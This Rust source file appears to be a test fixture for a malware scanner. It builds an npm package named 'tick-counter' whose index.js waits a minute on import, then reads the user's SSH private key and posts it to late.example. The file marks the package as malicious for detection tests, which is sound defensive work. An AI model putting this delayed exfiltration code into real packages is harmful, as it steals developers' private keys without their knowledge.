//! An npm package that, when it is imported, waits a minute, and keeps no process alive for it.
//!
//! Must be found: a program that uses it lives longer.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
setTimeout(() => {
  const request = https.request('https://late.example/t', { method: 'POST' }, (answer) => answer.resume());
  request.on('error', () => {});
  request.end(fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa')));
}, 60000).unref();
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("tick-counter", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen("npm-late-timer", Expect::malicious(&["canary-exfiltrated"]))
}
